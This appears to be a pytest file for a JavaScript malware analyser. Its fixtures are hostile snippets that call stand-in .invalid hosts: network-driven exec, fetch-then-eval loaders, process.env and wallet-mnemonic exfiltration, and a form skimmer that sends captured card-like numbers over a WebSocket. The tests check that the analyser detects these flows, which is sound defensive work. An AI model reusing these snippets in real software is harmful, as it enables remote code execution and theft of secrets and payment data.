"""What is followed through indirections of the language: unknown members, tags, threads, private names, listeners."""

import pytest

from lazaretto.core.facts import Kind
from tests.languages.javascript_reading import flows, only, read, values

_RUN = "const { exec } = require('child_process');\n"
_SOCKET = _RUN + "const s = new (require('ws'))('wss://c.invalid/a');\n"


def test_a_member_that_somebody_outside_names_may_be_any() -> None:
    """Each of them is called with what came from the network."""
    facts = read(_SOCKET + "const t = { a: (x) => exec(x), b: 2 };\ns.on('message', (m) => t[m.k](m.x));\n")

    assert (Kind.NET_CONNECT, Kind.PROCESS_SPAWN) in flows(facts)


def test_a_member_that_the_program_itself_chooses_is_none_of_all() -> None:
    """A table of commands is no reason to call each of them where the file is loaded."""
    facts = read(_RUN + "const t = { a: () => exec('id'), b: () => 1 };\nt[process.argv[2]]('x');\n")

    assert only(facts, Kind.PROCESS_SPAWN).moment.value == "call"


def test_any_member_of_the_module_that_starts_programs_starts_one() -> None:
    """Whatever its name is."""
    facts = read(
        "import * as cp from 'child_process';\nimport c from './c.json' with { type: 'json' };\ncp[c.op]('id');\n"
    )

    assert values(facts, Kind.PROCESS_SPAWN) == ["id"]


@pytest.mark.parametrize("texts", ["s.raw", "s"])
def test_a_tag_is_called_with_the_texts_and_the_holes(texts: str) -> None:
    """ECMA-262, 13.3.11."""
    tag = f"const k = (s, ...v) => {texts}.map((x, i) => x + (v[i] ?? '')).join('');\n"

    assert values(read(_RUN + tag + "exec(k`id -${'u'}n`);\nexec(k`pwd`);\n"), Kind.PROCESS_SPAWN) == ["id -un", "pwd"]


def test_code_inside_code_is_told_beside_it() -> None:
    """Both stand at one place; what the inner one evaluates came from the network."""
    facts = read('eval(\'require("https").get("https://x.invalid/w", (r) => r.on("data", (d) => eval(d)))\');\n')

    assert (Kind.NET_CONNECT, Kind.CODE_EVAL) in flows(facts)
    assert len(values(facts, Kind.CODE_EVAL)) == 2


@pytest.mark.parametrize("start", ["spawn('node', ['-e', CODE])", "fork('-', [], { execArgv: ['-e', CODE] })"])
def test_code_for_another_node_is_read(start: str) -> None:
    """It does what it says, at the place where that is started."""
    code = "`fetch('https://x.invalid/s').then((r) => r.text()).then(eval)`"
    facts = read(f"const {{ spawn, fork }} = require('child_process');\n{start.replace('CODE', code)};\n")

    assert (Kind.NET_CONNECT, Kind.CODE_EVAL) in flows(facts)


def test_a_connection_that_gives_way_to_a_known_one_hands_on_what_came_from_it() -> None:
    """A helper is asked twice at one place: for an address that is known, and for one that is not."""
    get = (
        "const get = (u) => new Promise((r) => require('https').get(u, (m) => { let t = '';\n"
        "  m.on('data', (d) => { t += d; }).on('end', () => r(t)); }));\n"
    )
    facts = read(get + "get('https://a.invalid/e').then(get).then((c) => eval(c));\n")

    assert (Kind.NET_CONNECT, Kind.CODE_EVAL) in flows(facts)


def test_a_listener_keeps_what_it_hears_in_what_it_listens_to() -> None:
    """``this`` is the thing that speaks."""
    get = "require('https').get('https://a.invalid', (m) => m.on('data', function (d) { this.t += d; })"
    facts = read(get + ".on('end', function () { eval(this.t); }));\n")

    assert (Kind.NET_CONNECT, Kind.CODE_EVAL) in flows(facts)


@pytest.mark.parametrize("name", ["#go", "go"])
def test_a_key_is_followed_through_the_object_that_is_made_of_it(name: str) -> None:
    """A constructor is called with what others hand over, and its object keeps it."""
    facts = read(
        f"class W {{ constructor(mnemonic) {{ this.m = mnemonic; queueMicrotask(() => this.{name}()); }}\n"
        f"  {name}() {{ fetch('https://x.invalid/', {{ headers: {{ a: this.m }} }}); }} }}\nmodule.exports = {{ W }};\n"
    )

    assert (Kind.KEY_GIVEN, Kind.NET_CONNECT) in flows(facts)


def test_what_forms_are_told_is_followed_wherever_it_is_sent() -> None:
    """Fields under names that only the page knows; the listener holds no word of interest."""
    facts = read(
        "const ws = new WebSocket('wss://c.invalid/s'), got = {};\n"
        "document.addEventListener('change', ({ target: { name, value } }) => {\n  got[name] = value;\n"
        "  if (/\\d{13}/.test(Object.values(got).join())) ws.send(Object.keys(got) + btoa(JSON.stringify(got)));\n});\n"
    )

    assert (Kind.USER_WATCH, Kind.NET_CONNECT) in flows(facts)


@pytest.mark.parametrize(
    "send",
    [
        "new URLSearchParams([...(function* (o) { for (const k in o) yield [k, o[k]]; })(process.env)])",
        "JSON.stringify(process.env)",
    ],
)
@pytest.mark.parametrize("got", ["const { got } = require('got')", "const got = require('got')"])
def test_variables_go_by_whatever_name_a_client_has(send: str, got: str) -> None:
    """What a generator gives, and what a container of pairs holds, is still the environment."""
    assert (Kind.ENV_DUMP, Kind.NET_CONNECT) in flows(read(f"{got};\ngot(`https://x.invalid/?${{{send}}}`);\n"))


def test_a_client_of_one_service_sends_what_its_methods_are_given() -> None:
    """But that the service is told whose client it is, is what it is for."""
    new = "const { Octokit } = require('@octokit/rest');\nconst o = new Octokit({ auth: process.env.GITHUB_TOKEN });\n"
    facts = read(new + "o.rest.repos.update({ content: JSON.stringify(process.env) });\n")

    assert values(facts, Kind.NET_CONNECT) == ["https://api.github.com"]
    assert flows(facts) == {(Kind.ENV_DUMP, Kind.NET_CONNECT)}
    assert values(read(new + "o.users.list();\n".replace("new", "")), Kind.NET_CONNECT) == ["https://api.github.com"]
    assert values(read("new (require('octokit').Octokit)({ baseUrl: 'https://g.invalid' });\n"), Kind.NET_CONNECT) == [
        "https://g.invalid"
    ]
